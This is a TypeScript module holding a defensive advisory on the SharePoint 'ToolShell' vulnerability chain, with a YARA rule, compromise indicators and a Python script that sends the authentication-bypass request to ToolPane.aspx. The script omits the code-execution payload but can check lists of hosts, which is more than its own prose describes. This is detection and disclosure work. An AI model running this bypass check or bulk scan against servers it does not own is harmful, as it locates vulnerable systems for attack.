// What `forewarn demo toolshell` releases: an advisory written after the public descriptions of the
// SharePoint "ToolShell" chain (CVE-2025-49706 and CVE-2025-49704), with a detection rule and a
// proof of concept. The proof of concept is a lab check that stops at the authentication bypass:
// it sends no payload, so the demo ships nothing that exploits anything.

export const TOOLSHELL_TITLE =
  "SharePoint Server: unauthenticated remote code execution through ToolPane.aspx (replay of ToolShell)";

export const TOOLSHELL_PRODUCTS = [
  {
    vendor: "Microsoft",
    product: "SharePoint Server Subscription Edition",
    affected: ["16.0.17928.20000"],
    fixed: ["16.0.18526.20424"],
  },
  { vendor: "Microsoft", product: "SharePoint Server 2019", affected: ["16.0.10417.20018"], fixed: [] },
];

export const TOOLSHELL_SECTIONS = {
  summary:
    "Two vulnerabilities in on-premises SharePoint Server can be chained by an unauthenticated, remote attacker to execute arbitrary code on the server. A spoofing vulnerability allows an attacker to reach the page editing endpoint without authentication, and a code injection vulnerability in that endpoint then allows the attacker to run code as the application pool account. SharePoint Online is not affected by these vulnerabilities.",
  details: [
    "The vulnerability that is described first is due to improper validation of the `Referer` header by the page editing endpoint `/_layouts/15/ToolPane.aspx`. The endpoint decides whether a request needs an authenticated session partly from that header, and when the header names the sign-out page the check is skipped. An attacker could exploit this vulnerability by sending a crafted HTTP request to an affected server. A successful exploit could allow the attacker to reach the editing functions as if the request came from a signed-in editor. Exploitation does not require user interaction.",
    "The second vulnerability is due to insufficient validation of user-supplied data in the same endpoint. In edit mode the endpoint accepts a serialised web part description in the request body, and the description is deserialised with a type filter that a crafted control list can get around. An attacker who has already bypassed authentication could exploit this vulnerability by sending a specially crafted request body. A successful exploit could allow the attacker to execute arbitrary code in the SharePoint worker process with the privileges of the application pool account.",
    "Chained, the two vulnerabilities give a remote attacker arbitrary code execution without authentication and without user interaction. Attackers who gain access to the server typically read the machine keys from the configuration next, which allows them to forge signed view state and to keep access after the update is installed. Administrators who find signs of compromise should therefore rotate the machine keys and restart the web servers once they have applied the update.",
    "The vendor has released software updates that address these vulnerabilities. There are no workarounds that address these vulnerabilities, but enabling the antimalware scan interface in SharePoint and placing the servers behind an authenticating proxy reduce the exposure. Customers should apply the updates as soon as possible.",
  ].join("\n\n"),
  detection: [
    "Look for anonymous POST requests to `/_layouts/15/ToolPane.aspx` with `DisplayMode=Edit` in the query string and a `Referer` that names `/_layouts/SignOut.aspx`. Legitimate editors reach the page with a session and never with that referrer.",
    "On the servers, watch for new `.aspx` files under the `LAYOUTS` folder shortly after such a request, and for the worker process `w3wp.exe` starting a command shell or PowerShell.",
    "The attached YARA rule matches the request in captured HTTP traffic; it is meant for proxies and sensors that keep request headers.",
  ].join("\n\n"),
  poc: [
    "The attached proof of concept checks one server in a lab. It sends the spoofed request to the page editing endpoint with an empty body and reports whether the server treats it as signed in; it carries no payload and does not attempt to execute arbitrary code. It should only be used against servers that you own, and it does not require authentication.",
    "A server that is affected by this vulnerability answers the check with status 200 and the edit form, whereas a server where the update has been installed answers 401 or redirects to the sign-in page. The same request with a specially crafted body is what reaches the deserialisation step; the body is left out of this copy on purpose, since a successful exploit could allow anyone who reads it to run arbitrary commands on the servers of customers who have not yet applied the update.",
    "The request that the proof of concept sends is the following. The order of the header lines does not matter to the server:",
    "```http\nPOST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx HTTP/1.1\nHost: sharepoint.lab.example\nReferer: /_layouts/SignOut.aspx\nContent-Type: application/x-www-form-urlencoded\nUser-Agent: lab-check/1.0\nAccept: text/html\nContent-Length: 0\n```",
    "Interpreting the result: status 200 with the edit form means that the authentication bypass works and that the server is vulnerable, so the administrator should install the update at once; status 401, 403 or a redirect means that the bypass failed. A time-out says nothing, since a web application firewall may drop the request. The proof of concept attempts to connect once and does not retry, so that a failed attempt is not mistaken for a denial of service.",
    "The script is written for Python 3.9 or later and uses only the standard library. It takes the base URL of the server as its first argument, and optionally a time-out in seconds and the path to a file where the result is written as JSON. In order to check many servers, run it once per server; it makes use of no threads, so that the load on a production server stays negligible.",
  ].join("\n\n"),
  indicators: [
    "- POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit with Referer /_layouts/SignOut.aspx",
    "- new files named spinstall0.aspx under the LAYOUTS folder",
    "- w3wp.exe spawning cmd.exe or powershell.exe with an encoded command",
  ].join("\n"),
};

export const TOOLSHELL_RULE = `rule SharePoint_ToolPane_Auth_Bypass_Request
{
    meta:
        author = "Forewarn demo"
        description = "Anonymous request to ToolPane.aspx in edit mode with the sign-out page as referrer"
        reference = "ToolShell replay"
        date = "2025-06-20"
    strings:
        $path = "/_layouts/15/ToolPane.aspx" ascii nocase
        $mode = "DisplayMode=Edit" ascii nocase
        $ref = "Referer: /_layouts/SignOut.aspx" ascii nocase
        $ref2 = "/_layouts/SignOut.aspx" ascii nocase
        $post = "POST " ascii
        $form = "application/x-www-form-urlencoded" ascii nocase
    condition:
        $post at 0 and $path and $mode and ($ref or $ref2) and $form
}
`;

export const TOOLSHELL_POC = `#!/usr/bin/env python3
"""Lab check: does a SharePoint server accept the spoofed sign-out referrer on ToolPane.aspx?

Sends the request with an empty body and reports what the server answers. No payload is sent.
"""
import json
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

EDIT_PATH = "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx"
SIGNIN_PATH = "/_layouts/15/Authenticate.aspx"
SPOOFED_REFERER = "/_layouts/SignOut.aspx"
USER_AGENT = "lab-check/1.0"


def build_request(base_url):
    parsed = urllib.parse.urlsplit(base_url)
    scheme = parsed.scheme or "http"
    host = parsed.netloc or parsed.path
    target_url = scheme + "://" + host.rstrip("/") + EDIT_PATH
    headers = {
        "Referer": SPOOFED_REFERER,
        "Content-Type": "application/x-www-form-urlencoded",
        "User-Agent": USER_AGENT,
        "Accept": "text/html",
    }
    return urllib.request.Request(target_url, data=b"", headers=headers, method="POST")


def read_answer(req, timeout):
    started = time.monotonic()
    try:
        with urllib.request.urlopen(req, timeout=timeout) as response:
            status_code = response.status
            location = response.headers.get("Location", "")
            body_text = response.read(65536).decode("utf-8", "replace")
    except urllib.error.HTTPError as error:
        status_code = error.code
        location = error.headers.get("Location", "") if error.headers else ""
        body_text = ""
    except Exception as error:
        elapsed = time.monotonic() - started
        return {"status": None, "error": str(error), "seconds": round(elapsed, 2)}
    elapsed = time.monotonic() - started
    return {"status": status_code, "location": location, "body": body_text, "seconds": round(elapsed, 2)}


def verdict(answer):
    status_code = answer.get("status")
    if status_code is None:
        return "no answer"
    location = answer.get("location", "")
    body_text = answer.get("body", "")
    if status_code == 200 and "ToolPane" in body_text:
        return "vulnerable"
    if status_code in (301, 302, 303) and SIGNIN_PATH.lower() in location.lower():
        return "not vulnerable"
    if status_code in (401, 403):
        return "not vulnerable"
    return "unclear"


def write_result(path, base_url, answer, outcome):
    record = {
        "target": base_url,
        "status": answer.get("status"),
        "seconds": answer.get("seconds"),
        "verdict": outcome,
        "checked_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
    }
    with open(path, "w", encoding="utf-8") as handle:
        json.dump(record, handle, indent=2)
        handle.write("\\n")


def load_targets(path):
    targets = []
    with open(path, encoding="utf-8") as handle:
        for raw_line in handle:
            line = raw_line.strip()
            if not line or line.startswith("#"):
                continue
            if "://" not in line:
                line = "https://" + line
            targets.append(line)
    return targets


def format_row(base_url, answer, outcome):
    status_text = str(answer.get("status") or "-")
    seconds_text = str(answer.get("seconds") or "-")
    marker = "!!" if outcome == "vulnerable" else "  "
    return marker + " " + base_url.ljust(40) + " " + status_text.rjust(4) + " " + seconds_text.rjust(6) + "s " + outcome


def summarise(rows):
    counts = {"vulnerable": 0, "not vulnerable": 0, "unclear": 0, "no answer": 0}
    for outcome in rows:
        counts[outcome] = counts.get(outcome, 0) + 1
    parts = []
    for label in ("vulnerable", "not vulnerable", "unclear", "no answer"):
        parts.append(label + ": " + str(counts[label]))
    return ", ".join(parts)


def main(argv):
    if len(argv) < 2:
        print("usage: toolpane_check.py BASE_URL|@TARGETS.txt [TIMEOUT_SECONDS] [RESULT.json]")
        return 2
    first_arg = argv[1]
    timeout_seconds = float(argv[2]) if len(argv) > 2 else 10.0
    result_path = argv[3] if len(argv) > 3 else ""
    targets = load_targets(first_arg[1:]) if first_arg.startswith("@") else [first_arg]
    outcomes = []
    for base_url in targets:
        req = build_request(base_url)
        answer = read_answer(req, timeout_seconds)
        outcome = verdict(answer)
        outcomes.append(outcome)
        print(format_row(base_url, answer, outcome))
        if result_path and len(targets) == 1:
            write_result(result_path, base_url, answer, outcome)
    print(summarise(outcomes))
    return 1 if "vulnerable" in outcomes else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
`;
